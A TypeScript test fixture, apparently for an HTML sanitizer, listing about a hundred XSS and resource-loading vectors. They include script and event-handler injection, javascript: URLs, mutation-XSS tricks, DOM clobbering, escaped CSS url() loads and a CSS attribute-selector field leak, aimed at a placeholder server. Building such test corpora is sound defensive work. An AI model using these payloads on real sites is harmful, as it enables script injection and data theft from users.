/**
 * Markup that runs or loads something in an ordinary page: `RUN` stands for a script that notes itself and asks the
 * forbidden server, `URL` for that server’s address, `⏎` for a new line. With a `!` it does so by itself or at a
 * click in an unprotected page, which the tests prove, so that what holds here holds against something.
 */
const markup = String.raw`
! script ¦ <script>RUN</script>
! script of another server ¦ <script src="URL/script.js"></script>
! module ¦ <script type="module" src="URL/module.js"></script>
! script in SVG ¦ <svg width="40" height="40"><script>RUN</script></svg>
! script in SVG by address ¦ <svg width="40" height="40"><script href="URL/svg.js"></script></svg>
- speculation rules ¦ <script type="speculationrules">{"prefetch":[{"urls":["URL/spec"]}]}</script>
- import map ¦ <script type="importmap">{"imports":{"a":"URL/map.js"}}</script>
! onerror ¦ <img src="data:," onerror="RUN">
! onload of SVG ¦ <svg width="40" height="40"><image href="data:image/png,x" onerror="RUN" onload="RUN"/></svg>
! onclick ¦ <b onclick="RUN" class="press">x</b>
! ontoggle ¦ <details open ontoggle="RUN"><summary>x</summary></details>
! onanimationstart ¦ <style>@keyframes k{to{top:0}}</style><i style="animation:k 1ms" onanimationstart="RUN">x</i>
! ontransitionend ¦ <a style="transition:opacity 1ms" onfocus="RUN" tabindex="1" autofocus>x</a>
! handler in capitals ¦ <b ONCLICK="RUN" class="press">x</b>
- body’s handlers ¦ <body onload="RUN" onpageshow="RUN" onhashchange="RUN">x</body>
- marquee ¦ <marquee onstart="RUN">x</marquee>
! javascript: link ¦ <a href="javascript:RUN" class="press">x</a>
! javascript: with tabs ¦ <a href="java&#9;script:RUN" class="press">x</a>
! javascript: in SVG ¦ <svg width="40" height="40"><a href="javascript:RUN"><text y="20" class="press">x</text></a></svg>
! javascript: by xlink ¦ <svg width="40" height="40"><a xlink:href="javascript:RUN"><text y="20" class="press">x</text></a></svg>
- javascript: in MathML ¦ <math><mtext href="javascript:RUN" class="press">x</mtext></math>
! javascript: everywhere ¦ <img src="javascript:RUN"><input type="image" src="javascript:RUN"><body background="javascript:RUN"><object data="javascript:RUN"></object><iframe src="javascript:RUN"></iframe>
- javascript: by animation ¦ <svg width="40" height="40"><a><animate attributeName="href" values="javascript:RUN" begin="0s"/><text y="20" class="press">x</text></a></svg>
- javascript: by set ¦ <svg width="40" height="40"><a><set attributeName="xlink:href" to="javascript:RUN"/><text y="20" class="press">x</text></a></svg>
! form ¦ <form action="URL/form" method="get"><button class="press">x</button></form>
! form’s javascript: ¦ <form action="javascript:RUN"><button class="press">x</button></form>
! formaction ¦ <form><button formaction="URL/formaction" class="press">x</button></form>
! form elsewhere ¦ <form id="f" action="URL/form2"></form><input form="f" type="submit" class="press">
! link ¦ <a href="URL/link" class="press">x</a>
- link in a new window ¦ <a href="URL/blank" target="_blank" class="press">x</a>
! ping ¦ <a href="#x" ping="URL/ping" class="press">x</a>
- attribution ¦ <img src="data:," attributionsrc="URL/attribution"><a href="#y" attributionsrc="URL/attribution2" class="press">x</a>
- download ¦ <a href="URL/download" download class="press">x</a>
! area ¦ <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width="50" height="50"><map name="m"><area shape="default" href="URL/area" class="press"></map>
! srcdoc ¦ <iframe srcdoc="&lt;script&gt;RUN;parent.ran=1&lt;/script&gt;"></iframe>
! iframe elsewhere ¦ <iframe src="URL/iframe"></iframe>
- iframe of data: ¦ <iframe src="data:text/html,&lt;script src=URL/dataframe.js&gt;&lt;/script&gt;"></iframe>
- frameset ¦ <frameset><frame src="URL/frame"></frameset>
! object ¦ <object data="URL/object"></object>
- object of data: ¦ <object data="data:text/html,&lt;script src=URL/dataobject.js&gt;&lt;/script&gt;"></object>
! embed ¦ <embed src="URL/embed">
- applet ¦ <applet code="URL/applet" archive="URL/applet"></applet>
- portal ¦ <portal src="URL/portal"></portal><fencedframe src="URL/fenced"></fencedframe>
! meta refresh ¦ <meta http-equiv="refresh" content="0;url=URL/refresh">
- meta refresh to javascript: ¦ <meta http-equiv="refresh" content="0;url=javascript:RUN">
- meta policy ¦ <meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="origin-trial" content="x">
! base ¦ <base href="URL/base/"><img src="picture.png">
! style sheet ¦ <link rel="stylesheet" href="URL/sheet.css">
! prefetch ¦ <link rel="prefetch" href="URL/prefetch"><link rel="prerender" href="URL/prerender">
! preload ¦ <link rel="preload" as="image" href="URL/preload"><link rel="modulepreload" href="URL/modulepreload">
- preconnect ¦ <link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">
- icon ¦ <link rel="icon" href="URL/icon.png"><link rel="manifest" href="URL/manifest"><link rel="import" href="URL/import">
! imagesrcset ¦ <link rel="preload" as="image" imagesrcset="URL/imagesrcset 1x">
! picture ¦ <img src="URL/img.png">
! srcset ¦ <img srcset="URL/srcset.png 1x, URL/srcset2.png 2x"><picture><source srcset="URL/source.png"><img></picture>
! lazy picture ¦ <img loading="lazy" src="URL/lazy.png" width="9" height="9">
! picture’s other names ¦ <image src="URL/image.png"></image><img lowsrc="URL/lowsrc" dynsrc="URL/dynsrc"><input type="image" src="URL/input.png">
! background ¦ <table background="URL/table.png"><tr><td background="URL/td.png">x</td></tr></table>
! video ¦ <video src="URL/video" poster="URL/poster.png" autoplay></video>
! audio ¦ <audio src="URL/audio" preload="auto"></audio><bgsound src="URL/bgsound">
! media source and track ¦ <video><source src="URL/mediasource"><track default src="URL/track"></video>
! SVG image ¦ <svg width="40" height="40"><image href="URL/svgimage" width="9" height="9"/><image xlink:href="URL/svgimage2" width="9" height="9"/></svg>
- SVG use ¦ <svg width="40" height="40"><use href="URL/use#a"/><use xlink:href="URL/use2#a"/></svg>
- SVG use of data: ¦ <svg width="40" height="40"><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='URL/usedata' onerror='RUN'/&gt;&lt;/svg&gt;#x"/></svg>
! SVG feImage ¦ <svg width="40" height="40"><filter id="fi"><feImage href="URL/feimage"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>
! SVG paint ¦ <svg width="40" height="40"><rect width="9" height="9" fill="url(URL/fill#a)" mask="url(URL/mask#m)" filter="url(URL/filter#f)" clip-path="url(URL/clip#c)"/></svg>
! SVG paint, escaped ¦ <svg width="40" height="40"><rect width="9" height="9" mask="u\72 l(URL/mask2#m)" style="fil\74 er:url(URL/filter2#f)"/></svg>
! SVG marker and cursor ¦ <svg width="40" height="40"><path d="M0 0L9 9" marker-end="url(URL/marker#m)" cursor="url(URL/cursor.png),auto"/></svg>
- SVG set of an address ¦ <svg width="40" height="40"><image width="9" height="9"><set attributeName="href" to="URL/set.png"/></image></svg>
- SVG animate of paint ¦ <svg width="40" height="40"><rect width="9" height="9"><animate attributeName="mask" values="url(URL/animate#m)" dur="1s" fill="freeze"/></rect></svg>
! SVG foreignObject ¦ <svg width="40" height="40"><foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="URL/foreign"></iframe><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="RUN"></foreignObject></svg>
! SVG style ¦ <svg width="40" height="40"><style>rect{mask:url(URL/svgstyle#m)} @import "URL/svgimport.css";</style><rect width="9" height="9"/></svg>
- SVG font and tref ¦ <svg width="40" height="40"><font-face-uri href="URL/fontface"/><tref href="URL/tref#x"/><cursor href="URL/svgcursor"/></svg>
! SVG handler ¦ <svg width="40" height="40"><handler type="text/javascript">RUN</handler><discard/><animate onbegin="RUN" onend="RUN" attributeName="x" dur="1ms"/></svg>
! MathML ¦ <math href="javascript:RUN"><maction actiontype="statusline#URL/math" xlink:href="javascript:RUN" class="press">x</maction><annotation-xml encoding="text/html"><img src="URL/annotation" onerror="RUN"></annotation-xml></math>
- template ¦ <template><script>RUN</script><img src="URL/template" onerror="RUN"></template>
- declared shadow root ¦ <div><template shadowrootmode="open"><img src="URL/shadow" onerror="RUN"><script>RUN</script></template></div>
! style attribute ¦ <p style="background:url(URL/style.png)">x</p>
! style attribute, escaped ¦ <p style="background:\75\72\6c('URL/style2.png')">x</p>
! CSS url ¦ <style>p{background:url(URL/css.png)} i{background:url("URL/css2.png")} b{background:URL( 'URL/css3.png' )}</style><p>x</p><i>x</i><b>x</b>
! CSS url, escaped ¦ <style>p{background:\75 rl(URL/cssescape.png)} i{background:u\000072l("\68ttp:URL/x")}</style><p>x</p><i>x</i>
! CSS import ¦ <style>@import url(URL/import.css); @import "URL/import2.css";</style>
! CSS import, escaped ¦ <style>@\69mport "URL/import3.css";</style><style>@IMPORT/**/"URL/import4.css";</style>
! CSS import with conditions ¦ <style>@import url("URL/import5.css") layer(a) supports(display: grid) screen;</style>
! CSS image-set ¦ <style>p{background:image-set("URL/set1.png" 1x)} i{background:-webkit-image-set(url(URL/set2.png) 1x)}</style><p>x</p><i>x</i>
! CSS image-set by variable ¦ <style>p{--u:"URL/set3.png";background:image-set(var(--u) 1x)} i{--a:image-set("URL/set4.png" 1x);background:var(--a)}</style><p>x</p><i>x</i>
- CSS image-set by attribute ¦ <style>p{background:image-set(attr(data-u) 1x)}</style><p data-u="URL/set5.png">x</p>
! CSS image-set by function ¦ <style>@function --f(){result:"URL/set6.png"} p{background:image-set(--f() 1x)}</style><p>x</p>
! CSS variable ¦ <style>p{--b:url(URL/variable.png);background:var(--b)}</style><p>x</p>
- CSS property ¦ <style>@property --b{syntax:"<url>";inherits:false;initial-value:url(URL/property.png)} p{background:var(--b)}</style><p>x</p>
- CSS src ¦ <style>p{background:src("URL/src.png")} i{background:image("URL/image2.png")}</style><p>x</p><i>x</i>
! CSS cross-fade ¦ <style>p{background:-webkit-cross-fade(url(URL/fade.png),url(URL/fade2.png),50%)}</style><p>x</p>
! CSS font ¦ <style>@font-face{font-family:f;src:url(URL/font.woff2)} p{font-family:f}</style><p>x</p>
! CSS content, cursor, list, border ¦ <style>p::before{content:url(URL/content.png)} ul{list-style:url(URL/list.png)} i{border-image:url(URL/border.png) 1} *{cursor:url(URL/cursor.png),auto}</style><p>x</p><ul><li>x</ul><i>x</i>
! CSS mask, clip, filter, shape ¦ <style>p{mask:url(URL/mask.svg#m);filter:url(URL/filter.svg#f);clip-path:url(URL/clip.svg#c)} i{shape-outside:url(URL/shape.png);float:left}</style><p>x</p><i>x</i>
! CSS in layers and queries ¦ <style>@layer a{@media screen{@supports (display:grid){p{&{background:url(URL/nested.png)}}}}}</style><p>x</p>
! CSS after comments ¦ <style>/* */p{background:/*url(*/url(URL/comment.png)/*)*/}</style><p>x</p>
! CSS after strings ¦ <style>i{content:"\"/*";}p{background:url(URL/string.png)}</style><p>x</p>
! CSS after a broken string ¦ <style>i{content:"⏎}p{background:url(URL/broken.png)}</style><p>x</p>
! CSS after a broken address ¦ <style>i{background:url(a"b);}p{background:url(URL/badurl.png)}</style><p>x</p>
! CSS after <!-- ¦ <style><!--p{background:url(URL/cdo.png)}--></style><p>x</p>
! CSS without an end ¦ <style>p{background:url(URL/open.png</style><p>x</p>
- CSS expression and behaviour ¦ <style>p{width:expression(RUN);behavior:url(URL/behaviour.htc);-moz-binding:url(URL/binding.xml#x)}</style><p>x</p>
! CSS by state ¦ <style>p:hover{background:url(URL/hover.png)} p:not(:focus){background:url(URL/focus.png)}</style><p>x</p>
! CSS that reads fields ¦ <style>input[value^="a"]{background:url(URL/leak-a.png)}</style><input value="abc">
- XML style sheet ¦ <?xml-stylesheet href="URL/xml.css"?><p>x</p>
! mXSS by SVG style ¦ <svg></p><style><a id="</style><img src=x: onerror=RUN>">
- mXSS by MathML ¦ <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">
- mXSS by form ¦ <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x:>">
! mXSS by noscript ¦ <noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>
! mXSS by comment ¦ <!--><img src=x: onerror=RUN>--><!--!><img src=x: onerror=RUN>
- clobbering ¦ <form id="a" name="body"><input name="setAttribute"><input name="attributes"><input name="parentNode"><input name="childNodes"><input name="style"><input name="nodeType"></form><img name="createElement"><img name="createElementNS"><img name="documentElement"><img name="open"><iframe name="top"></iframe><a id="location" href="URL/clobber">x</a>
! custom element’s attributes ¦ <x-y onclick="RUN" is="x-z" src="URL/custom" style="background:url(URL/custom2)" class="press">x</x-y><p is="x-z">y</p>
! popover and invokers ¦ <button popovertarget="pp" commandfor="pp" command="show-modal" class="press" onbeforetoggle="RUN">x</button><div popover id="pp" ontoggle="RUN">y</div>
! content of an editing host ¦ <div contenteditable onbeforeinput="RUN" onfocus="RUN" tabindex="0" class="press" autofocus>x</div>`;

export interface Forged {
  name: string;
  html: string;
  bites: boolean;
}

export const forgedMarkup: readonly Forged[] = markup
  .trim()
  .split('\n')
  .map((line) => {
    const at = line.indexOf(' ¦ ');
    return { bites: line.startsWith('!'), name: line.slice(2, at), html: line.slice(at + 3).replaceAll('⏎', '\n') };
  });
